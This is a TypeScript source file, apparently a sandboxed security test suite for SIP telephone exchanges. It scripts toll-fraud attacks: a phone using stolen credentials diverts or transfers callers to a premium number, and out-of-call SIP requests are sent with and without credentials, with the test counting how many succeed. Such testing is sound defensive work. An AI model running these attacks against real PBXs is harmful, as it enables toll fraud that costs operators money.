import { createInterface } from "node:readline";
import { join } from "node:path";
import { endProcess, startInNamespace, waitUntil } from "../peers/peer-process";
import { above, type Attack } from "./attack";
import { askEverywhere, offer, type Order } from "./stranger";
import type { Target } from "./target";
import { askAs, askedOfCarrier, idleAccount, officeSource, premium } from "./thief";

const account = (target: Target) => {
  const [first] = target.accounts;
  if (first === undefined) throw new Error(`${target.name} has no accounts`);
  return first;
};

/** What the thief's own phone prints, see `tools/disloyal_phone.py`. */
interface Told {
  readonly registered?: number | null;
  readonly calls?: number;
  readonly answers?: readonly number[];
}

/** Registers a thief's phone that sends its callers to a premium number, and calls it from another phone. */
async function callDisloyal(target: Target, how: "divert" | "transfer"): Promise<{ told: Told; numbers: string[] }> {
  const { user, password, door, number } = idleAccount(target);
  const job = { door: { ...door, source: officeSource(target, 1), host: target.address }, user, password, to: premium };
  const script = join(__dirname, "tools/disloyal_phone.py");
  const phone = startInNamespace(target.sandbox.namespaces.office, ["python3", "-B", script]);
  let told: Told = {};
  let trouble = "";
  phone.stderr.setEncoding("utf8").on("data", (text: string) => (trouble += text));
  createInterface({ input: phone.stdout }).on("line", (line) => (told = { ...told, ...(JSON.parse(line) as Told) }));
  try {
    phone.stdin.write(`${JSON.stringify({ ...job, how, seconds: 6 })}\n`);
    await waitUntil(
      () => told.registered !== undefined,
      15_000,
      () => `the thief's phone is not registered: ${trouble}`,
    );
    if (told.registered !== 200) throw new Error(`the thief's phone is not registered: ${told.registered ?? ""}`);
    const caller = account(target);
    const call: Order = {
      ...{ method: "INVITE", uri: `sip:${number}@${target.address}`, from: `<sip:${caller.user}@${target.address}>` },
      ...{ talk: 2, ...offer },
    };
    const { numbers } = await askedOfCarrier(target, () => askAs(target, caller, [call]));
    await waitUntil(
      () => told.calls !== undefined,
      20_000,
      () => `the thief's phone does not end: ${trouble}`,
    );
    return { told, numbers };
  } finally {
    await endProcess(phone);
  }
}

const reached = (numbers: readonly string[]) => numbers.filter((number) => number === premium).length;

/** Sends a caller on to a premium number, where the dial plan of the called phone would not. */
export const divertedCall: Attack = {
  name: "call-diversion-302",
  what: "answers a call, as a phone with stolen credentials, with 302 to a premium number",
  measures: "premium calls at the carrier",
  goal: "0",
  weak: ["tutorial22", "tutorial16"],
  sample: true,
  run: async (target) => {
    const { told, numbers } = await callDisloyal(target, "divert");
    return above(0, reached(numbers), `called ${told.calls ?? 0} times`);
  },
};

/** Transfers a call to a premium number. */
export const transferredCall: Attack = {
  name: "call-transfer-refer",
  what: "answers a call, as a phone with stolen credentials, and transfers it by REFER to a premium number",
  measures: "premium calls at the carrier",
  goal: "0",
  weak: ["tutorial22", "tutorial16"],
  run: async (target) => {
    const { told, numbers } = await callDisloyal(target, "transfer");
    return above(
      0,
      reached(numbers),
      `called ${told.calls ?? 0} times, REFER answered ${told.answers?.join(", ") ?? ""}`,
    );
  },
};

/** Requests outside any call that some PBXs take for calls, or pass on. */
function outsideCalls(target: Target, from: string, number: string): Order[] {
  const { address } = target;
  const uri = `sip:${number}@${address}`;
  const text = { headers: { "Content-Type": "text/plain" }, body: "hello" };
  return [
    { method: "MESSAGE", uri, from, ...text },
    { method: "REFER", uri, from, headers: { "Refer-To": `<sip:${premium}@${address}>` } },
    { method: "REFER", uri: `sip:${address}`, from, headers: { "Refer-To": `<sip:${premium}@${address}>` } },
    { method: "SUBSCRIBE", uri, from, headers: { Event: "dialog", Expires: "60" } },
    { method: "SUBSCRIBE", uri, from, headers: { Event: "presence", Expires: "60" } },
    { method: "SUBSCRIBE", uri, from, headers: { Event: "message-summary", Expires: "60" } },
    { method: "NOTIFY", uri, from, headers: { Event: "check-sync", "Subscription-State": "terminated" } },
    { method: "PUBLISH", uri, from, headers: { Event: "presence", Expires: "60" } },
    { method: "INFO", uri, from, headers: { "Content-Type": "application/dtmf-relay" }, body: "Signal=1\r\n" },
  ];
}

/** Uses MESSAGE and the like, with credentials, to call or to learn. */
export const messageCalls: Attack = {
  name: "stolen-methods",
  what: "sends MESSAGE, REFER, SUBSCRIBE, NOTIFY, PUBLISH and INFO outside any call, with a phone's credentials, to an extension and to a premium number",
  measures: "requests accepted and premium calls at the carrier",
  goal: "0",
  weak: ["tutorial22"],
  run: async (target) => {
    const caller = account(target);
    const from = `<sip:${caller.user}@${target.address}>`;
    const orders = [premium, target.accounts[1]?.number ?? ""].flatMap((number) => outsideCalls(target, from, number));
    const { result, numbers } = await askedOfCarrier(target, () => askAs(target, caller, orders));
    const taken = result.flatMap(({ status }, index) =>
      status !== null && status < 300 ? [`${orders[index]?.method ?? ""} ${status}`] : [],
    );
    return above(0, taken.length + reached(numbers), `${taken.join(", ")}; at the carrier: ${numbers.length}`);
  },
};

/** The same without credentials. */
export const strangeMethods: Attack = {
  name: "methods-without-credentials",
  what: "sends MESSAGE, REFER, SUBSCRIBE, NOTIFY, PUBLISH and INFO outside any call, without credentials, over every transport, in nobody's name, a known phone's and the trunk's",
  measures: "requests accepted",
  goal: "0",
  weak: [],
  run: async (target) => {
    const names = ["anonymous", account(target).user, target.trunk];
    const orders = names.flatMap((name) =>
      outsideCalls(target, `<sip:${name}@${target.address}>`, target.accounts[1]?.number ?? ""),
    );
    const heard = await askEverywhere(target, orders);
    const taken = heard.map(({ replies }) => replies.filter(({ status }) => status !== null && status < 300).length);
    return above(0, Math.max(...taken));
  },
};
